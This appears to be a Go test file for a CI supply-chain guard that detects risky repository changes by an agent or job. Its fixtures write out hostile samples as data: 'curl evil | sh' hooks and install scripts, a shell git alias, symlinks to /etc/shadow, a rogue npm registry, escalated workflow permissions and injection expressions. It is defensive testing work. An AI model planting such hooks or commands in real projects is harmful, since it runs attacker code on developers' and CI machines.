package trust

import (
	"bytes"
	"context"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/airlock-ci/airlock/policies"
)

// repo makes a git repository in a temporary directory and returns it
// with a function that runs git there (failing the test on error) and one
// that writes files.
func repo(t *testing.T) (string, func(args ...string) string, func(path, content string)) {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("needs git")
	}
	dir := t.TempDir()
	git := func(args ...string) string {
		t.Helper()
		cmd := exec.Command("git", append([]string{"-C", dir}, args...)...)
		cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=agent", "GIT_AUTHOR_EMAIL=agent@example.com", "GIT_COMMITTER_NAME=agent", "GIT_COMMITTER_EMAIL=agent@example.com", "GIT_CONFIG_GLOBAL=/dev/null")
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v: %s", args, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	write := func(path, content string) {
		t.Helper()
		p := filepath.Join(dir, path)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	git("init", "-q", "-b", "main")
	return dir, git, write
}

// defaultSet is the default policy's trust set (for tests and fuzz
// targets alike).
func defaultSet(t testing.TB) *Set {
	t.Helper()
	eff, err := policies.Load(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	s, err := NewSet(eff.Policy.Trust)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

const baseWorkflow = `name: ci
on: [pull_request]
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - name: test
        run: make test
`

// The agent's commits touch every category: each change is found with
// its category, and each workflow escalation with its line.
func TestAuthoredDiff(t *testing.T) {
	dir, git, write := repo(t)
	write(".github/workflows/ci.yml", baseWorkflow)
	write("package.json", `{"name":"x","scripts":{"test":"jest"}}`)
	write("Makefile", "test:\n\tgo test ./...\n")
	write(".gitattributes", "*.go text\n")
	write("README.md", "hello\n")
	git("add", "-A")
	git("commit", "-q", "-m", "base")
	base := git("rev-parse", "HEAD")

	write(".github/workflows/ci.yml", `name: ci
on:
  pull_request:
  pull_request_target:
permissions:
  contents: write
  id-token: write
jobs:
  test:
    runs-on: [self-hosted, linux]
    env:
      ACTIONS_ALLOW_UNSECURE_COMMANDS: true
    steps:
      - uses: actions/checkout@v4
      - name: test
        run: |
          echo "${{ github.event.pull_request.title }}"
          make test
        env:
          TOKEN: ${{ secrets.NPM_TOKEN }}
`)
	write("package.json", `{"name":"x","scripts":{"test":"jest","postinstall":"curl evil | sh"}}`)
	write(".gitattributes", "*.go text\n*.txt filter=evil\n")
	write(".husky/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
	write("README.md", "hello agent\n")
	git("add", "-A")
	git("commit", "-q", "-m", "agent")

	got, err := AuthoredDiff(context.Background(), dir, base, "HEAD", defaultSet(t))
	if err != nil {
		t.Fatal(err)
	}
	want := []struct {
		category Category
		path     string
		kind     Kind
		reason   string
		line     int
	}{
		{CI, ".github/workflows/ci.yml", KindModified, "changed", 0},
		{CI, ".github/workflows/ci.yml", KindEscalation, "new trigger pull_request_target", 4},
		{CI, ".github/workflows/ci.yml", KindEscalation, "permission contents: write", 6},
		{CI, ".github/workflows/ci.yml", KindEscalation, "permission id-token: write", 7},
		{CI, ".github/workflows/ci.yml", KindEscalation, "self-hosted", 10},
		{CI, ".github/workflows/ci.yml", KindEscalation, "ACTIONS_ALLOW_UNSECURE_COMMANDS", 12},
		{CI, ".github/workflows/ci.yml", KindEscalation, "actions/checkout@v4, not pinned", 14},
		{CI, ".github/workflows/ci.yml", KindEscalation, "github.event.pull_request.title", 17},
		{CI, ".github/workflows/ci.yml", KindEscalation, "uses secret NPM_TOKEN", 20},
		{BuildEntry, "package.json", KindModified, `scripts (lifecycle).postinstall: "curl evil | sh"`, 0},
		{GitAttributes, ".gitattributes", KindModified, "*.txt filter=evil", 2},
		{BuildEntry, ".husky/pre-commit", KindAdded, "added", 1},
	}
	for _, w := range want {
		found := false
		for _, f := range got {
			if f.Category == w.category && f.Path == w.path && f.Kind == w.kind && strings.Contains(f.Reason, w.reason) && (w.line == 0 || f.Line == w.line) && f.Phase == Authored && f.Action == ActionWarn {
				found = true
			}
		}
		if !found {
			t.Errorf("missing finding %+v", w)
		}
	}
	for _, f := range got {
		if f.Path == "README.md" {
			t.Errorf("README is not in the trust set: %+v", f)
		}
	}
	if t.Failed() {
		for _, f := range got {
			t.Logf("%s %s:%d %s %s", f.Category, f.Path, f.Line, f.Kind, f.Reason)
		}
	}
}

// Renaming a step, or changing package.json outside its scripts, is not
// an escalation.
func TestAuthoredDiffHarmlessEdits(t *testing.T) {
	dir, git, write := repo(t)
	write(".github/workflows/ci.yml", baseWorkflow)
	write("package.json", `{"name":"x","scripts":{"test":"jest"}}`)
	git("add", "-A")
	git("commit", "-q", "-m", "base")
	base := git("rev-parse", "HEAD")
	write(".github/workflows/ci.yml", strings.Replace(baseWorkflow, "name: test", "name: unit tests", 1))
	write("package.json", `{"name":"x","version":"1.0.1","scripts":{"test":"jest"}}`)
	git("commit", "-q", "-am", "rename")
	got, err := AuthoredDiff(context.Background(), dir, base, "HEAD", defaultSet(t))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range got {
		if f.Kind == KindEscalation || f.Path == "package.json" {
			t.Errorf("harmless edit reported: %+v", f)
		}
	}
}

// Hostile input: a huge workflow, invalid YAML, binary content, a
// missing base commit. Each is reported, nothing crashes.
func TestAuthoredDiffBadInput(t *testing.T) {
	dir, git, write := repo(t)
	write("README.md", "x\n")
	git("add", "-A")
	git("commit", "-q", "-m", "base")
	base := git("rev-parse", "HEAD")
	write(".github/workflows/big.yml", "on: push\n"+strings.Repeat("# padding\n", 11<<20/10))
	write(".github/workflows/bad.yml", "on: [push\njobs: {\n")
	write("Makefile", "all:\n\x00\x01\x02binary\n")
	git("add", "-A")
	git("commit", "-q", "-m", "agent")
	got, err := AuthoredDiff(context.Background(), dir, base, "HEAD", defaultSet(t))
	if err != nil {
		t.Fatal(err)
	}
	reasons := map[string]string{}
	for _, f := range got {
		reasons[f.Path] += f.Reason + "|" + f.Diff + "|"
	}
	if !strings.Contains(reasons[".github/workflows/big.yml"], "larger than the limit") {
		t.Errorf("big workflow: %q", reasons[".github/workflows/big.yml"])
	}
	if !strings.Contains(reasons[".github/workflows/bad.yml"], "invalid workflow") {
		t.Errorf("invalid workflow: %q", reasons[".github/workflows/bad.yml"])
	}
	if !strings.Contains(reasons["Makefile"], "binary content not shown") {
		t.Errorf("binary Makefile: %q", reasons["Makefile"])
	}
	_, err = AuthoredDiff(context.Background(), dir, strings.Repeat("ab", 20), "HEAD", defaultSet(t))
	if err == nil || !strings.Contains(err.Error(), "fetch-depth: 0") {
		t.Errorf("missing base: %v", err)
	}
}

// The run-time diff: what a job plants is found, and revert restores the
// exact bytes, modes and symlinks; links out of the workspace are never
// followed and hard-linked content is never shown.
func TestSnapshotCompareRevert(t *testing.T) {
	dir, git, write := repo(t)
	write(".github/workflows/ci.yml", baseWorkflow)
	write(".git/hooks/pre-push", "#!/bin/sh\necho original\n")
	os.Chmod(filepath.Join(dir, ".git/hooks/pre-push"), 0o751)
	write(".gitattributes", "*.go text\n")
	git("config", "user.name", "someone")
	set := defaultSet(t)
	before, err := Take(dir, set)
	if err != nil {
		t.Fatal(err)
	}
	origConfig, _ := os.ReadFile(filepath.Join(dir, ".git/config"))

	// What a hostile job does.
	write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
	os.Chmod(filepath.Join(dir, ".git/hooks/pre-commit"), 0o755)
	write(".git/hooks/pre-push", "#!/bin/sh\ncurl evil | sh\n")
	os.Symlink("/etc/shadow", filepath.Join(dir, ".git/hooks/post-checkout"))
	os.Link("/etc/hostname", filepath.Join(dir, ".git/hooks/post-merge"))
	os.WriteFile(filepath.Join(dir, ".git/hooks/odd\x01\xffname"), []byte("x"), 0o755)
	git("config", "core.fsmonitor", "curl evil | sh")
	git("config", "alias.st", "status")      // a git alias: harmless
	git("config", "alias.pwn", "!curl evil") // a shell alias
	write(".gitattributes", "*.go text\n*.txt filter=evil\n")
	write(".github/workflows/ci.yml", baseWorkflow+"# changed\n")
	write("sub/Makefile", "all:\n\tcurl evil | sh\n")

	after, err := Take(dir, set)
	if err != nil {
		t.Fatal(err)
	}
	found := Compare(before, after, set)
	byPath := map[string]Finding{}
	for _, f := range found {
		byPath[f.Path] = f
	}
	for p, want := range map[string]struct {
		category       Category
		kind           Kind
		action, reason string
	}{
		".git/hooks/pre-commit":      {GitHooks, KindAdded, ActionReadonly, "created"},
		".git/hooks/pre-push":        {GitHooks, KindModified, ActionReadonly, "content"},
		".git/hooks/post-checkout":   {GitHooks, KindAdded, ActionReadonly, `symlink to "/etc/shadow"`},
		".git/hooks/post-merge":      {GitHooks, KindAdded, ActionReadonly, "created"},
		".git/hooks/odd\x01\xffname": {GitHooks, KindAdded, ActionReadonly, "created"},
		".git/config":                {GitConfig, KindModified, ActionReadonly, "core.fsmonitor = curl evil | sh"},
		".gitattributes":             {GitAttributes, KindModified, ActionRevert, "filter=evil"},
		".github/workflows/ci.yml":   {CI, KindModified, ActionFail, "content"},
		"sub/Makefile":               {BuildEntry, KindAdded, ActionWarn, "created"},
	} {
		f, ok := byPath[p]
		if !ok || f.Category != want.category || f.Kind != want.kind || f.Action != want.action || !strings.Contains(f.Reason, want.reason) {
			t.Errorf("%q: got %+v, want %+v", p, f, want)
		}
	}
	// Every alias counts: a plain one can pass -c options to git.
	if f := byPath[".git/config"]; !strings.Contains(f.Reason, "alias.st") || !strings.Contains(f.Reason, "alias.pwn") {
		t.Errorf("git config reason: %q", f.Reason)
	}
	if f := byPath[".git/hooks/post-merge"]; strings.Contains(f.Diff, mustRead(t, "/etc/hostname")) {
		t.Errorf("hard-linked host file shown: %q", f.Diff)
	}

	if err := Revert(dir, before, found); err != nil {
		t.Fatal(err)
	}
	again, err := Take(dir, set)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range Compare(before, again, set) {
		if f.Action == ActionRevert || f.Action == ActionReadonly {
			t.Errorf("not reverted: %+v", f)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(dir, ".git/config")); !bytes.Equal(b, origConfig) {
		t.Errorf("git config not restored byte for byte:\n%s", b)
	}
	if fi, err := os.Stat(filepath.Join(dir, ".git/hooks/pre-push")); err != nil || fi.Mode().Perm() != 0o751 {
		t.Errorf("pre-push mode not restored: %v %v", fi.Mode(), err)
	}
	if b := mustRead(t, "/etc/hostname"); b == "" {
		t.Error("the host file behind the hard link was touched")
	}
	if _, err := os.Lstat(filepath.Join(dir, ".git/hooks/post-checkout")); err == nil {
		t.Error("planted symlink survives the revert")
	}
}

func mustRead(t *testing.T, p string) string {
	b, err := os.ReadFile(p)
	if err != nil {
		t.Skipf("needs %s: %v", p, err)
	}
	return string(b)
}

// A plain repository's snapshot has no notes: the files it looks up
// by name and does not find (.git/config.worktree) are simply absent,
// not something a reader of the attestation must weigh.
func TestSnapshotOfAPlainRepositoryHasNoNotes(t *testing.T) {
	ws := t.TempDir()
	if out, err := exec.Command("git", "init", "-q", ws).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v: %s", err, out)
	}
	os.WriteFile(filepath.Join(ws, "main.go"), []byte("package main\n"), 0o644)
	s, err := Take(ws, defaultSet(t))
	if err != nil {
		t.Fatal(err)
	}
	if len(s.Notes) != 0 {
		t.Errorf("notes %q, want none", s.Notes)
	}
	if _, ok := s.Entries[".git/config"]; !ok {
		t.Error(".git/config not in the snapshot")
	}
}

// A .git that is a symlink, or a file, is reported and not followed.
func TestSnapshotOddGitDirs(t *testing.T) {
	set := defaultSet(t)
	outside := t.TempDir()
	os.MkdirAll(filepath.Join(outside, "hooks"), 0o755)
	os.WriteFile(filepath.Join(outside, "hooks", "pre-commit"), []byte("secret"), 0o755)
	for _, tc := range []struct {
		name string
		make func(ws string)
		note string
	}{
		{"symlinked .git", func(ws string) { os.Symlink(outside, filepath.Join(ws, ".git")) }, "symlink"},
		{"gitdir file", func(ws string) { os.WriteFile(filepath.Join(ws, ".git"), []byte("gitdir: "+outside+"\n"), 0o644) }, "linked worktree"},
		{"symlinked hooks", func(ws string) {
			os.MkdirAll(filepath.Join(ws, ".git"), 0o755)
			os.Symlink(filepath.Join(outside, "hooks"), filepath.Join(ws, ".git", "hooks"))
		}, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			ws := t.TempDir()
			tc.make(ws)
			s, err := Take(ws, set)
			if err != nil {
				t.Fatal(err)
			}
			if tc.note != "" && !strings.Contains(strings.Join(s.Notes, "\n"), tc.note) {
				t.Errorf("notes %q lack %q", s.Notes, tc.note)
			}
			for p, e := range s.Entries {
				if strings.Contains(p, "pre-commit") || string(e.data) == "secret" {
					t.Errorf("followed a link out of the workspace: %s", p)
				}
			}
		})
	}
}

// Each escalation the semantic diff knows, one workflow edit at a time.
func TestWorkflowEscalations(t *testing.T) {
	const base = `on: [pull_request]
permissions: {contents: read}
jobs:
  t:
    runs-on: ubuntu-latest
    steps:
      - uses: example/airlock-action@0123456789abcdef0123456789abcdef01234567
      - run: make
`
	for _, tc := range []struct {
		name, head, want string
	}{
		{"workflow_run", strings.Replace(base, "[pull_request]", "[pull_request, workflow_run]", 1), "new trigger workflow_run"},
		{"issue_comment", strings.Replace(base, "[pull_request]", "[issue_comment]", 1), "new trigger issue_comment"},
		{"write-all", strings.Replace(base, "{contents: read}", "write-all", 1), "permissions write-all"},
		{"no permissions", strings.Replace(base, "permissions: {contents: read}\n", "", 1), "no permissions block"},
		{"job permission", strings.Replace(base, "    runs-on:", "    permissions: {actions: write}\n    runs-on:", 1), "permission actions: write"},
		{"secrets inherit", base + "  call:\n    uses: org/repo/.github/workflows/x.yml@0123456789abcdef0123456789abcdef01234567\n    secrets: inherit\n", "secrets: inherit"},
		{"unpinned reusable", base + "  call:\n    uses: org/repo/.github/workflows/x.yml@main\n", "x.yml@main, not pinned"},
		{"head_ref injection", strings.Replace(base, "run: make", "run: git checkout ${{ github.head_ref }}", 1), "github.head_ref"},
		{"comment injection", strings.Replace(base, "run: make", "run: echo '${{ github.event.comment.body }}'", 1), "comment.body"},
		{"airlock removed", strings.Replace(base, "      - uses: example/airlock-action@0123456789abcdef0123456789abcdef01234567\n", "", 1), "step that used airlock was removed"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := WorkflowEscalations(".github/workflows/ci.yml", []byte(base), []byte(tc.head))
			var reasons []string
			for _, f := range got {
				reasons = append(reasons, f.Reason)
			}
			if !strings.Contains(strings.Join(reasons, "\n"), tc.want) {
				t.Errorf("got %q, want one with %q", reasons, tc.want)
			}
		})
	}
	if got := WorkflowEscalations("ci.yml", []byte(base), []byte(strings.Replace(base, "run: make", "run: make all", 1))); len(got) != 0 {
		t.Errorf("harmless edit: %+v", got)
	}
}

// A job that deletes .git entirely: the hooks and config it held are
// reported deleted and, with revert, come back.
func TestDeletedGitDir(t *testing.T) {
	dir, git, write := repo(t)
	write(".git/hooks/pre-push", "#!/bin/sh\n")
	git("config", "core.editor", "vi")
	set := defaultSet(t)
	before, err := Take(dir, set)
	if err != nil {
		t.Fatal(err)
	}
	config, _ := os.ReadFile(filepath.Join(dir, ".git/config"))
	os.RemoveAll(filepath.Join(dir, ".git"))
	after, _ := Take(dir, set)
	found := Compare(before, after, set)
	kinds := map[string]Kind{}
	for _, f := range found {
		kinds[f.Path] = f.Kind
	}
	if kinds[".git/config"] != KindDeleted || kinds[".git/hooks/pre-push"] != KindDeleted {
		t.Fatalf("findings: %+v", found)
	}
	if err := Revert(dir, before, found); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, ".git/config")); !bytes.Equal(b, config) {
		t.Errorf("config not restored: %q", b)
	}
}

// The reviewer's bypasses: commondir redirecting git to a planted config,
// a package.json whose "Scripts" key shadows "scripts" for Go but not for
// npm, a new protocol.ext.allow, a walk too large to finish.
func TestBypassesCaught(t *testing.T) {
	dir, git, write := repo(t)
	write("package.json", `{"name":"x"}`)
	set := defaultSet(t)
	before, err := Take(dir, set)
	if err != nil {
		t.Fatal(err)
	}
	git("config", "protocol.ext.allow", "always")
	write(".git/commondir", "../build/gd\n")
	write("package.json", `{"name":"x","scripts":{"postinstall":"curl evil|sh"},"Scripts":null}`)
	after, _ := Take(dir, set)
	found := map[string]Finding{}
	for _, f := range Compare(before, after, set) {
		found[f.Path] = f
	}
	if f, ok := found[".git/commondir"]; !ok || f.Category != GitConfig || f.Kind != KindAdded {
		t.Errorf("commondir: %+v", f)
	}
	if f := found["package.json"]; !strings.Contains(f.Reason, "postinstall") {
		t.Errorf("package.json: %+v", f)
	}
	if f := found[".git/config"]; !strings.Contains(f.Reason, "protocol.ext.allow") {
		t.Errorf("git config: %+v", f)
	}

	big := &Snapshot{Entries: map[string]*Entry{}, Truncated: true}
	fs := Compare(before, big, set)
	if len(fs) == 0 || fs[0].Kind != KindIncomplete || fs[0].Action != ActionFail {
		t.Errorf("a truncated walk must fail: %+v", fs)
	}
}

// Hostile text cannot break out of the Markdown table or link anywhere.
func TestMarkdownInert(t *testing.T) {
	r := &Report{Findings: []Finding{{Phase: Runtime, Category: CI, Path: "a\r\n# All clear", Kind: KindAdded, Reason: "[approve](https://evil.test) ![](https://evil.test/t.png)", Action: ActionWarn}}}
	md := r.Markdown()
	for _, bad := range []string{"\r", "\n# All clear", "[approve](", "![]("} {
		if strings.Contains(md, bad) {
			t.Errorf("markdown contains %q:\n%s", bad, md)
		}
	}
}

// blobsOf fetches blobs from dir's repository, as the hook fetches them
// through the GitHub API.
func blobsOf(dir string) func(TreeFile) ([]byte, error) {
	return func(tf TreeFile) ([]byte, error) { return blob(context.Background(), dir, tf.SHA) }
}

// treeOf is a commit's tree as the GitHub API lists it (blobs only).
func treeOf(t *testing.T, dir, rev string) []TreeFile {
	t.Helper()
	tree, err := lsTree(context.Background(), dir, rev)
	if err != nil {
		t.Fatal(err)
	}
	return tree
}

// The authored diff between two trees read elsewhere (the hook reads them
// through the GitHub API) finds what the diff from git objects finds:
// same paths, kinds, reasons and escalations, for added, modified,
// deleted, mode-changed and symlinked files, harmless edits left out;
// past the fetch bound every change is still reported, without a diff.
func TestAuthoredFromTreesMatchesGit(t *testing.T) {
	dir, git, write := repo(t)
	write(".github/workflows/ci.yml", baseWorkflow)
	write("package.json", `{"name":"x","scripts":{"test":"jest"}}`)
	write("Makefile", "all:\n\tgo build\n")
	write(".gitattributes", "*.go text\n")
	write("main.go", "package main\n")
	write("gradlew", "#!/bin/sh\n")
	git("add", "-A")
	git("commit", "-q", "-m", "base")
	base := git("rev-parse", "HEAD")
	write(".github/workflows/ci.yml", strings.Replace(baseWorkflow, "on: [pull_request]", "on: [pull_request_target]", 1))
	write("package.json", `{"name":"x","version":"2","scripts":{"test":"jest","postinstall":"curl evil | sh"}}`)
	write(".husky/pre-commit", "#!/bin/sh\ncurl evil\n")
	write(".gitattributes", "*.go text\n*.go filter=evil\n")
	write("main.go", "package main // changed\n")
	os.Chmod(filepath.Join(dir, "gradlew"), 0o755)
	os.Remove(filepath.Join(dir, "Makefile"))
	os.Symlink("/etc/passwd", filepath.Join(dir, "GNUmakefile"))
	git("add", "-A")
	git("commit", "-q", "-m", "agent")
	set := defaultSet(t)
	want, err := AuthoredDiff(context.Background(), dir, base, "HEAD", set)
	if err != nil {
		t.Fatal(err)
	}
	fetch := blobsOf(dir)
	key := func(fs []Finding) []string {
		var out []string
		for _, f := range fs {
			out = append(out, strings.Join([]string{string(f.Phase), string(f.Category), string(f.Check), f.Path, string(f.Kind), f.Reason, f.Action, f.DiffSHA256}, "|"))
		}
		slices.Sort(out)
		return out
	}
	got := AuthoredFromTrees(treeOf(t, dir, base), treeOf(t, dir, "HEAD"), set, fetch, 100)
	if !slices.Equal(key(got), key(want)) || len(want) < 8 {
		t.Errorf("from trees:\n%s\nfrom git:\n%s", strings.Join(key(got), "\n"), strings.Join(key(want), "\n"))
	}
	// Past the bound, and with a fetch that lies: reported, not shown.
	lie := func(TreeFile) ([]byte, error) { return []byte("something else"), nil }
	for name, f := range map[string]func(TreeFile) ([]byte, error){"bound": fetch, "lying fetch": lie} {
		few := AuthoredFromTrees(treeOf(t, dir, base), treeOf(t, dir, "HEAD"), set, f, 1)
		paths := map[string]bool{}
		shown := 0
		for _, f := range few {
			paths[f.Path] = true
			if !strings.HasPrefix(f.Diff, "(not shown") {
				shown++
			}
		}
		if len(paths) < 7 || (name == "lying fetch" && shown != 0) || shown > 1 {
			t.Errorf("%s: %d paths, %d shown: %+v", name, len(paths), shown, few)
		}
	}
}

// CommitBaseline against a real git repository's tree: unchanged files
// come from the workspace, changed ones get the committed bytes (checked
// against their object id), created ones are absent, and what cannot be
// fetched still counts as changed.
func TestCommitBaseline(t *testing.T) {
	dir, git, write := repo(t)
	write("Makefile", "all:\n\tgo build\n")
	write("package.json", `{"name":"x","scripts":{"test":"jest"}}`)
	write(".github/workflows/ci.yml", baseWorkflow)
	write("node_modules/dep/package.json", `{"scripts":{"postinstall":"x"}}`)
	os.Symlink("Makefile", filepath.Join(dir, "GNUmakefile"))
	git("add", "-A", "-f")
	git("commit", "-q", "-m", "c")
	tree := treeOf(t, dir, "HEAD")
	tree = append(tree, TreeFile{Path: "sub/Makefile", Mode: "160000", SHA: strings.Repeat("1", 40)})
	// The job: Makefile changed, package.json reformatted (scripts the
	// same), the workflow replaced by a symlink, a new .npmrc.
	write("Makefile", "all:\n\tcurl evil | sh\n")
	write("package.json", `{"scripts": {"test": "jest"}, "name": "x"}`)
	os.Remove(filepath.Join(dir, ".github/workflows/ci.yml"))
	os.Symlink("/etc/passwd", filepath.Join(dir, ".github/workflows/ci.yml"))
	write(".npmrc", "registry=http://evil\n")
	set := defaultSet(t)
	after, err := Take(dir, set)
	if err != nil {
		t.Fatal(err)
	}
	fetches := map[string]int{}
	fetch := func(tf TreeFile) ([]byte, error) {
		fetches[tf.Path]++
		if tf.Path == "package.json" {
			return nil, os.ErrNotExist // the API failed: still counts as changed
		}
		return blobsOf(dir)(tf)
	}
	// The git directory as the job found it (here: unchanged).
	before := CommitBaseline(after, after, tree, set, fetch, 1000, 1000).WithGit(after)
	got := map[string]Kind{}
	for _, f := range Compare(before, after, set) {
		got[f.Path] = f.Kind
	}
	want := map[string]Kind{"Makefile": KindModified, "package.json": KindModified, ".github/workflows/ci.yml": KindSymlink, ".npmrc": KindAdded}
	if len(got) != len(want) {
		t.Errorf("findings %v, want %v", got, want)
	}
	for p, k := range want {
		if got[p] != k {
			t.Errorf("%s: %q, want %q (all: %v)", p, got[p], k, got)
		}
	}
	if fetches["GNUmakefile"] != 0 || fetches["node_modules/dep/package.json"] != 0 || fetches["sub/Makefile"] != 0 {
		t.Errorf("fetched what needs no fetching: %v", fetches)
	}
	if e := before.Entries["Makefile"]; e == nil || !e.kept || string(e.data) != "all:\n\tgo build\n" || e.UID != 1000 {
		t.Errorf("Makefile baseline: %+v", e)
	}
	// A committed file the workspace lacks: deleted by the job when the
	// first snapshot had it, never checked out (sparse) when it had not.
	os.Remove(filepath.Join(dir, "GNUmakefile"))
	gone, err := Take(dir, set)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		first *Snapshot
		want  Kind
	}{{after, KindDeleted}, {gone, ""}} {
		b := CommitBaseline(gone, tc.first, tree, set, fetch, 0, 0).WithGit(gone)
		got := Kind("")
		for _, f := range Compare(b, gone, set) {
			if f.Path == "GNUmakefile" {
				got = f.Kind
			}
		}
		if got != tc.want {
			t.Errorf("GNUmakefile gone: %q, want %q", got, tc.want)
		}
	}
	// A submodule's files are compared with the first snapshot, never as
	// files the commit lacks.
	write("lib/Makefile", "all:\n")
	withSub, _ := Take(dir, set)
	subTree := append(append([]TreeFile{}, tree...), TreeFile{Path: "lib", Mode: "160000", SHA: strings.Repeat("2", 40)})
	for _, f := range Compare(CommitBaseline(withSub, withSub, subTree, set, fetch, 0, 0).WithGit(withSub), withSub, set) {
		if strings.HasPrefix(f.Path, "lib/") {
			t.Errorf("a submodule's file reported: %+v", f)
		}
	}
	os.RemoveAll(filepath.Join(dir, "lib"))
	// The nearer of two trees is the one the workspace is at.
	if d0, d1 := TreeDistance(after, tree, set), TreeDistance(after, nil, set); d0 >= d1 || d0 != 4 {
		t.Errorf("distances %d (its commit), %d (an empty tree)", d0, d1)
	}
	// A fetch that returns other bytes than the tree names is not used.
	lie := func(TreeFile) ([]byte, error) { return []byte("all:\n"), nil }
	if e := CommitBaseline(after, after, tree, set, lie, 0, 0).Entries["Makefile"]; e == nil || e.kept {
		t.Errorf("a lying fetch was used: %+v", e)
	}
}

// A git config is compared by its keys: what the job adds or changes is
// found, what it removes is not (actions/checkout removes its credentials
// at the end of a job), and the authorization header checkout keeps there
// never reaches a finding, a diff or a reason.
func TestGitConfigKeys(t *testing.T) {
	const token = "AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX3NlY3JldA=="
	base := "[core]\n\trepositoryformatversion = 0\n[remote \"origin\"]\n\turl = https://github.com/acme/app\n"
	withHeader := base + "[http \"https://github.com/\"]\n\textraheader = " + token + "\n"
	for _, tc := range []struct {
		name, before, after string
		want                string // in the reason; "" for no finding
	}{
		{"checkout's post step removes its header", withHeader, base, ""},
		{"a key removed", base, "[core]\n\trepositoryformatversion = 0\n", ""},
		{"hooks path added", withHeader, withHeader + "[core]\n\thooksPath = /tmp/h\n", "core.hookspath = /tmp/h"},
		{"a plain key changed", base, strings.Replace(base, "acme/app", "evil/app", 1), "remote.origin.url = https://github.com/evil/app"},
		{"the header left behind", base, withHeader, "http.https://github.com/.extraheader = (redacted "},
		{"last value wins: reordered", base + "[core]\n\thooksPath = /a\n\thooksPath = /b\n", base + "[core]\n\thooksPath = /b\n\thooksPath = /a\n", "reordered"},
		{"a token in a URL", base, strings.Replace(base, "https://github.com", "https://x-access-token:ghs_secret@github.com", 1), "remote.origin.url = https://(redacted "},
		{"a bare key", base, base + "[core]\n\tbare\n", "core.bare"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			os.MkdirAll(filepath.Join(dir, ".git"), 0o755)
			set := defaultSet(t)
			snap := func(config string) *Snapshot {
				os.WriteFile(filepath.Join(dir, ".git", "config"), []byte(config), 0o644)
				s, err := Take(dir, set)
				if err != nil {
					t.Fatal(err)
				}
				return s
			}
			b, a := snap(tc.before), snap(tc.after)
			got := Compare(b, a, set)
			if tc.want == "" {
				if len(got) != 0 {
					t.Errorf("findings: %+v", got)
				}
				return
			}
			if len(got) != 1 || !strings.Contains(got[0].Reason, tc.want) {
				t.Fatalf("findings: %+v", got)
			}
			if all := fmt.Sprintf("%+v", got); strings.Contains(all, "eC1hY2Nlc3M") || strings.Contains(all, "ghs_secret") {
				t.Errorf("the credential reached a finding: %s", all)
			}
		})
	}
}

// A file the revert cannot put back (its pre-job copy was too large to
// keep) stays as the job left it, with the finding saying so: it is never
// deleted.
func TestRevertKeepsWhatItCannotRestore(t *testing.T) {
	dir, _, write := repo(t)
	big := strings.Repeat("x", maxKeep+1)
	write("Makefile", big)
	set, err := NewSet(policies.Trust{Runtime: map[string]string{string(BuildEntry): ActionRevert}})
	if err != nil {
		t.Fatal(err)
	}
	before, err := Take(dir, set)
	if err != nil {
		t.Fatal(err)
	}
	write("Makefile", big+"y")
	after, err := Take(dir, set)
	if err != nil {
		t.Fatal(err)
	}
	found := Compare(before, after, set)
	if len(found) != 1 || found[0].Action != ActionRevert {
		t.Fatalf("findings %+v, want the Makefile's, to revert", found)
	}
	if err := Revert(dir, before, found); err == nil || !strings.Contains(found[0].Outcome, "too large") {
		t.Errorf("revert: %v, outcome %q", err, found[0].Outcome)
	}
	if b, err := os.ReadFile(filepath.Join(dir, "Makefile")); err != nil || string(b) != big+"y" {
		t.Errorf("the Makefile is gone or changed: %v", err)
	}
}

// A symlink whose pre-job target is not known (a commit baseline that
// could not fetch it) is not removed either.
func TestRevertKeepsAnUnknownSymlink(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "Makefile"), []byte("job's\n"), 0o644)
	f := []Finding{{Phase: Runtime, Path: "Makefile", Action: ActionRevert}}
	before := &Snapshot{Entries: map[string]*Entry{"Makefile": {Mode: fs.ModeSymlink | 0o777}}}
	if err := Revert(dir, before, f); err == nil || !strings.Contains(f[0].Outcome, "not known") {
		t.Errorf("revert: %v, outcome %q", err, f[0].Outcome)
	}
	if b, err := os.ReadFile(filepath.Join(dir, "Makefile")); err != nil || string(b) != "job's\n" {
		t.Errorf("the job's file is gone or changed: %v", err)
	}
}

// VS Code's settings are build-entry (in any letter case); their agent
// settings are agent-tools findings with agent-tools' action. When that
// action reverts, the file is restored once and every finding on it
// says so.
func TestVSCodeSettingsCategories(t *testing.T) {
	set, err := NewSet(policies.Trust{Runtime: map[string]string{string(AgentTools): ActionRevert}})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{".vscode/settings.json", "app/.VSCode/Settings.json"} {
		if c := set.Category(p); c != BuildEntry {
			t.Errorf("%s: category %q, want %q", p, c, BuildEntry)
		}
	}
	dir, _, write := repo(t)
	write(".vscode/settings.json", `{"editor.tabSize": 2}`)
	before, err := Take(dir, set)
	if err != nil {
		t.Fatal(err)
	}
	write(".vscode/settings.json", `{"editor.tabSize": 4, "chat.tools.autoApprove": true}`)
	after, err := Take(dir, set)
	if err != nil {
		t.Fatal(err)
	}
	found := Compare(before, after, set)
